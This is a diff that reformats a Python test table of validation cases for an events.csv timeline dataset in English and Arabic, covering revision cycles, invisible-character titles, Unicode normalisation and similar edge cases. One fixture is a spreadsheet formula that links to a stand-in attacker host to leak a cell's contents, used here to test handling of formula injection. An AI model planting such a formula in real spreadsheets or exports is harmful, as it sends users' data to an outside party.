@@ -35,8 +35,11 @@ def add_row(file: str, row: str):
 
 
 def revises_cycle_of_three(d: Path) -> None:
-    add_row("events.csv", "deadline-alpha-3,deadline,alpha,,2026-03,,phase-alpha,2026-01-15,"
-            "deadline-alpha-2,planned,reported,Third,الثالث,,,,,src-a")(d)
+    add_row(
+        "events.csv",
+        "deadline-alpha-3,deadline,alpha,,2026-03,,phase-alpha,2026-01-15,"
+        "deadline-alpha-2,planned,reported,Third,الثالث,,,,,src-a",
+    )(d)
     set_cell(d / "events.csv", "deadline-alpha", "revises", "deadline-alpha-3")
 
 
@@ -65,55 +68,108 @@ def nfd_id(d: Path) -> None:
 EXTRA: dict[str, tuple] = {
     "revises cycle of three": (
         revises_cycle_of_three,
-        Problem("events.csv", 3, "revises", "deadline-alpha-3",
-                "revision cycle: deadline-alpha -> deadline-alpha-3 -> deadline-alpha-2 -> "
-                "deadline-alpha; a deadline chain must run from the original to the latest", 9),
+        Problem(
+            "events.csv",
+            3,
+            "revises",
+            "deadline-alpha-3",
+            "revision cycle: deadline-alpha -> deadline-alpha-3 -> deadline-alpha-2 -> "
+            "deadline-alpha; a deadline chain must run from the original to the latest",
+            9,
+        ),
     ),
     "one megabyte line": (
         one_megabyte_line,
-        Problem("events.csv", 5, "summary_en", "long " * 210_000,
-                "is 1,050,000 characters long, over the maximum 3,000", 14),
+        Problem(
+            "events.csv",
+            5,
+            "summary_en",
+            "long " * 210_000,
+            "is 1,050,000 characters long, over the maximum 3,000",
+            14,
+        ),
     ),
     "ids differing by unicode normalisation": (
         nfd_id,
-        Problem("events.csv", 5, "id", "cafe\u0301",
-                "is not a valid id: use lower-case letters, digits and '-' only", 1),
+        Problem(
+            "events.csv",
+            5,
+            "id",
+            "cafe\u0301",
+            "is not a valid id: use lower-case letters, digits and '-' only",
+            1,
+        ),
     ),
     "statement announced before it was made": (
         edit("events.csv", "statement-1", "announced", "2025-08-01"),
-        Problem("events.csv", 5, "announced", "2025-08-01",
-                "is before the start 2025-08-18: a statement is public only once it has "
-                "happened (a date still to come is a deadline or a planned phase)", 8),
+        Problem(
+            "events.csv",
+            5,
+            "announced",
+            "2025-08-01",
+            "is before the start 2025-08-18: a statement is public only once it has "
+            "happened (a date still to come is a deadline or a planned phase)",
+            8,
+        ),
     ),
     "revision announced before its original": (
         edit("events.csv", "deadline-alpha-2", "announced", "2024-01-01"),
-        Problem("events.csv", 4, "announced", "2024-01-01",
-                "is before the deadline it revises (deadline-alpha) was announced "
-                "(2024-09-27): a revision comes after the original", 8),
+        Problem(
+            "events.csv",
+            4,
+            "announced",
+            "2024-01-01",
+            "is before the deadline it revises (deadline-alpha) was announced "
+            "(2024-09-27): a revision comes after the original",
+            8,
+        ),
     ),
     "zero-width title": (
         edit("events.csv", "statement-1", "title_en", "\u200b\u200b"),
-        Problem("events.csv", 5, "title_en", "\u200b\u200b",
-                "is required but blank: it holds only spaces or invisible characters", 12),
+        Problem(
+            "events.csv",
+            5,
+            "title_en",
+            "\u200b\u200b",
+            "is required but blank: it holds only spaces or invisible characters",
+            12,
+        ),
     ),
     "whitespace-only arabic title": (
         edit("events.csv", "phase-alpha", "title_ar", " \u00a0 "),
-        Problem("events.csv", 2, "title_ar", " \u00a0 ",
-                "is required but blank: it holds only spaces or invisible characters", 13),
+        Problem(
+            "events.csv",
+            2,
+            "title_ar",
+            " \u00a0 ",
+            "is required but blank: it holds only spaces or invisible characters",
+            13,
+        ),
     ),
     # Legitimate input: must build and render correctly.
     "excel utf-8 with bom": (excel_bom, None),
     "mixed line endings": (mixed_line_endings, None),
     "spreadsheet formula in a title": (
-        edit("events.csv", "statement-1", "title_en",
-             '=HYPERLINK("http://evil.example/?leak="&A1,"click")'), None),
+        edit(
+            "events.csv",
+            "statement-1",
+            "title_en",
+            '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+        ),
+        None,
+    ),
     "right-to-left mark in an arabic title": (
-        edit("events.csv", "statement-1", "title_ar", "تصريح \u200fالمتحدث\u200f"), None),
+        edit("events.csv", "statement-1", "title_ar", "تصريح \u200fالمتحدث\u200f"),
+        None,
+    ),
     "quoted comma and newline in a summary": (
         edit("events.csv", "statement-1", "summary_en", 'He said, "we leave"\nin September.'),
-        None),
-    "arabic-indic digits in a date": (edit("events.csv", "deadline-alpha", "start", "٢٠٢٥-٠٩"),
-                                      None),
+        None,
+    ),
+    "arabic-indic digits in a date": (
+        edit("events.csv", "deadline-alpha", "start", "٢٠٢٥-٠٩"),
+        None,
+    ),
 }
 
 
